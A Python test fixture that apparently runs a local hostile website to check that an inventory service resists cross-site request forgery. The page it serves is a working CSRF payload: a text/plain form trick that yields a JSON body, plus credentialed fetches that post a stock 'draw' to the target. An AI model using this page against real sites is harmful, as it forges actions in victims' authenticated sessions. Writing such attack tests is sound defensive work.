"""A site that means harm: its pages try to draw a yard's stock through a person's browser."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

DRAW = {"kind": "draw", "lot": 1, "quantity": "1 kg", "job": "D-7"}

PAGE = """<!doctype html><title>waiting</title>
<form method="post" enctype="text/plain" action="{target}/v1/movements" target="hole">
<input name='{draw_left}' value='{draw_right}'></form><iframe name="hole"></iframe>
<script>
const draw = (type, mode) => fetch("{target}/v1/movements", {{
  method: "POST", mode, credentials: "include", headers: {{"Content-Type": type}},
  body: JSON.stringify({draw}) }}).catch(() => 0);
const submitted = new Promise(done => {{
  document.querySelector("iframe").onload = done; setTimeout(done, 30000);
  document.forms[0].submit(); }});
Promise.all([submitted, draw("text/plain", "no-cors"), draw("application/json", "cors"),
             fetch("{target}/v1/movements", {{method: "POST", mode: "no-cors"}}).catch(() => 0)])
  .then(() => document.title = "done");
</script>"""
"""Every way that a page has to send a request elsewhere: a form, a plain fetch, one that asks
first (a preflight), and one without a body."""


class Site(ThreadingHTTPServer):
    """The site; it notes what is posted to it, as a victim without any guard would take it."""

    daemon_threads = True

    def __init__(self, port: int = 0) -> None:
        super().__init__(("127.0.0.1", port), Handler)
        self.posted: list[bytes] = []

    @property
    def port(self) -> int:
        """Where it listens."""
        return int(self.server_address[1])


class Handler(BaseHTTPRequestHandler):
    """Gives the page that attacks the address in its query."""

    server: Site

    def do_GET(self) -> None:
        """The page."""
        left, right = json.dumps({**DRAW, "x": "="})[:-1].split("=")
        page = PAGE.format(
            target=self.path.partition("?")[2], draw=json.dumps(DRAW),
            draw_left=left, draw_right=right + "}",
        )  # fmt: skip
        self._answer(page.encode())

    def do_POST(self) -> None:
        """Note it, and welcome it."""
        self.server.posted.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
        self._answer(b"thanks")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: Any) -> None:
        """Say nothing."""


@contextmanager
def site(port: int = 0) -> Iterator[Site]:
    """A running site."""
    served = Site(port)
    thread = threading.Thread(target=served.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield served
    finally:
        served.shutdown()
        thread.join()
        served.server_close()
